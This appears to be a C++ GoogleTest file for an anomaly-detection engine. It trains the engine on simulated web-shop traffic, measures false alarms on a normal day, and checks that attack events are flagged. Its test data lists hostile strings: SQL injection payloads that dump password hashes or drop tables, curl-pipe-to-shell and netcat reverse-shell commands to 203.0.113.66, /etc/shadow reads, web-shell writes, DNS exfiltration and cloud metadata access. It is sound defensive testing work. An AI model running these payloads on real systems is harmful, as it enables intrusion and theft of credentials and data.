// A web shop learned for an hour, then a fresh day of its normal traffic,
// then attacks, through either stream: the normal day raises under 1% false
// alarms and every attack raises one. Every unknown behaviour is counted
// (no repeat window), so the rate is that of the features themselves.
#include <gtest/gtest.h>
#include <rapidjson/document.h>

#include <iostream>

#include "event_script.h"
#include "shop_traffic.h"

using namespace enginetest;

namespace {

const unsigned kLearnMinutes = 60;
const unsigned kRequestsPerMinute = 40;
const unsigned kNormalRequests = 4000;

const std::vector<std::string> kRaspAttacks = {
    "mysql SELECT p.id, p.name, p.price, p.stock FROM products p WHERE p.id = 1 OR 1=1",
    "mysql SELECT p.id, p.name, p.price, p.stock FROM products p WHERE p.id = -1 UNION SELECT id, email, "
    "password_hash, 1 FROM users",
    "mysql SELECT id, name, price FROM products WHERE name LIKE '%x%'; DROP TABLE orders -- %' OR description LIKE "
    "'%x%' ORDER BY price ASC LIMIT 10 OFFSET 0",
    "mysql SELECT id, password_hash FROM users WHERE email = '' OR '1'='1' LIMIT 1",
    "mysql SELECT id, password_hash FROM users WHERE email = 'a@example.org' AND SLEEP(5) -- ' LIMIT 1",
    "mysql SELECT id, total, status FROM orders WHERE customer_id = 7 AND status IN ('paid') ORDER BY "
    "(SELECT password_hash FROM users LIMIT 1) DESC LIMIT 20 OFFSET 0",
    "mysql SELECT LOAD_FILE('/etc/passwd')",
    "postgre DROP TABLE events",
    "execute /bin/sh -c 'curl -s http://203.0.113.66/x.sh | sh'",
    "execute /usr/bin/nc -e /bin/sh 203.0.113.66 4444",
    "execute /usr/bin/convert /var/shop/upload/0f3c9a2e-41d8-4b7e-9c2a-1e5f6a7b8c9d.jpg -resize 64x64 -quality 80 "
    "/var/www/html/shell.php",
    "execute /bin/sh -c 'gzip -9 /var/shop/export/orders-20250602-Ab3dEf.csv && mv "
    "/var/shop/export/orders-20250602-Ab3dEf.csv.gz /var/backup/shop/; cat /etc/shadow'",
    "write /var/shop/upload/0f3c9a2e-41d8-4b7e-9c2a-1e5f6a7b8c9d.php",
    "write /var/www/html/shell.php",
    "read /etc/passwd",
    "read /var/lib/php/sessions/../../../../etc/shadow",
    "delete /var/shop/invoices/INV-100017.pdf",
    "dns x7f3a9c2b1d.exfil.example",
    "address attacker.example 4444",
    "address api.payments.example 8080",
    "destination http://169.254.169.254/latest/meta-data/ 80",
};

const std::vector<std::string> kHostAttacks = {
    "process /bin/sh /bin/sh -c 'curl -s http://203.0.113.66/x.sh | sh'",
    "process /usr/bin/nc nc -e /bin/sh 203.0.113.66 4444",
    "process /usr/bin/python3 python3 -c 'import pty; pty.spawn(\"/bin/sh\")'",
    "process /bin/sh /bin/sh -c 'gzip -9 /var/shop/export/orders-20250602-Ab3dEf.csv && mv "
    "/var/shop/export/orders-20250602-Ab3dEf.csv.gz /var/backup/shop/; cat /etc/shadow'",
    "process /usr/bin/convert /usr/bin/convert /var/shop/upload/0f3c9a2e-41d8-4b7e-9c2a-1e5f6a7b8c9d.jpg -resize "
    "64x64 -quality 80 /var/www/html/shell.php",
    "process /usr/sbin/sendmail /usr/sbin/sendmail -t -i -C /tmp/evil.cf",
    "file /var/www/html/shell.php",
    "file /etc/cron.d/shop-update",
    "file /root/.ssh/authorized_keys",
    "file /var/shop/upload/0f3c9a2e-41d8-4b7e-9c2a-1e5f6a7b8c9d.php",
    "file /etc/passwd",
    "connect 203.0.113.66 4444 tcp 51515",
    "connect 10.0.0.5 22 tcp 51516",
    "connect 169.254.169.254 80 tcp 40000",
    "dns a1b2c3d4e5f6.exfil.example 203.0.113.66",
    "listen 4444 tcp",
    "listen 31337 udp",
};

struct Figures {
    std::size_t events = 0;
    std::size_t alarms = 0;
    double rate() const { return events == 0 ? 0.0 : static_cast<double>(alarms) / static_cast<double>(events); }
};

const std::vector<std::string>& linesOf(BaseInterface*, const ShopRequest& request) { return request.host; }
const std::vector<std::string>& linesOf(RaspInterface*, const ShopRequest& request) { return request.rasp; }

template <class Interface>
void runShop(const char* stream, const std::vector<std::string>& attacks) {
    TempDir dir;
    std::ofstream(dir.path() + "/baseConfig.ini") << "[engine]\nalarm_repeat_window_seconds = 0\n";
    auto engine = makeEngine<Interface>();
    ASSERT_EQ(engine->setConfig((dir.path() + "/baseConfig.ini").c_str()), 0);
    ASSERT_TRUE(engine->initModel(startCommand("shop", kLearnMinutes, "/usr/sbin/shopd", {kScriptPid}).get()));

    ShopTraffic learning(1, 0);
    std::size_t learned = 0;
    for (unsigned minute = 0; minute < kLearnMinutes; ++minute) {
        for (unsigned i = 0; i < kRequestsPerMinute; ++i) {
            ShopRequest request = learning.next();
            feed(*engine, linesOf(engine.get(), request));
            learned += linesOf(engine.get(), request).size();
        }
        engine->elapseTime(60, 0);
    }
    rapidjson::Document status;
    status.Parse(engine->getModelStatus("shop").c_str());
    ASSERT_STREQ(status["period"].GetString(), "FILTER_PEROID");

    ShopTraffic normal(2, 1);
    Figures day;
    std::vector<std::string> falseAlarms;
    for (unsigned i = 0; i < kNormalRequests; ++i) {
        ShopRequest request = normal.next();
        for (const std::string& line : linesOf(engine.get(), request)) {
            ++day.events;
            if (judgedBlack(*engine, *eventOf(engine.get(), line))) {
                ++day.alarms;
                if (falseAlarms.size() < 10) falseAlarms.push_back(line);
            }
        }
    }
    Figures attack;
    for (const std::string& line : attacks) {
        ++attack.events;
        bool black = judgedBlack(*engine, *eventOf(engine.get(), line));
        attack.alarms += black;
        EXPECT_TRUE(black) << "not detected: " << line;
    }

    std::cout << "[" << stream << "] learning: " << learned << " events, " << status["feature_count"].GetUint64()
              << " features, " << status["new_features_per_hour"].GetUint64() << " new in the last hour, stable "
              << (status["stable"].GetBool() ? "yes" : "no") << "\n"
              << "[" << stream << "] normal day: " << day.alarms << " false alarms in " << day.events << " events ("
              << 100.0 * day.rate() << "%)\n"
              << "[" << stream << "] attacks: " << attack.alarms << " of " << attack.events << " detected\n";
    EXPECT_LT(day.rate(), 0.01);
    for (const std::string& line : falseAlarms) std::cout << "  false alarm: " << line << "\n";
    EXPECT_TRUE(status["stable"].GetBool()) << "the shop's behaviour is covered long before the hour ends";
}

}  // namespace

TEST(RealisticAppTest, RuntimeApplicationStreamLearnsTheShopNotItsLiterals) {
    runShop<RaspInterface>("runtime application", kRaspAttacks);
}

TEST(RealisticAppTest, HostStreamLearnsTheShopNotItsLiterals) { runShop<BaseInterface>("host", kHostAttacks); }
